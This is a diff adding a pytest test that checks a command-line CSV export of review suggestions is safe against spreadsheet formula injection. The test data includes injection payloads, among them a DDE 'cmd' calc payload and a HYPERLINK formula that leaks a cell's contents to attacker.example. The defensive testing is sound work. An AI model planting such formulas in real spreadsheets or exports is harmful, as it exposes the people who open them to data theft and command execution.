@@ -163,3 +163,17 @@ def test_every_text_cell_of_the_export_is_spreadsheet_safe(tmp_path):
     assert {row["question"] for row in rows} == {"'=cmd|' /C calc'!A0", "'+1+1", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx",
                                                  "plain question"}
     assert {(row["answer"], row["review_note"], row["reviewer"]) for row in rows} == {("'=1+1 answer", "'@note", "ana")}
+
+
+def test_suggestions_export_through_the_cli_is_spreadsheet_safe_too(tmp_path):
+    from ui.suggestions import SuggestionStore
+
+    settings = Settings(index_dir=tmp_path / "index")
+    store = SuggestionStore(settings.index_dir / "reviews.sqlite")
+    formula = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the fix")'
+    store.add("qa/x", "+1+1 better body", title="@SUM(A1)", reason=formula, base_title="X", base_body="old body")
+    exported = tmp_path / "suggestions.csv"
+    result = khub_cli(settings)("review", "export", exported, "--suggestions")
+    assert result.exit_code == 0, result.output
+    [row] = list(csv.DictReader(exported.open(encoding="utf-8", newline="")))
+    assert (row["reason"], row["body"], row["title"]) == ("'" + formula, "'+1+1 better body", "'@SUM(A1)")
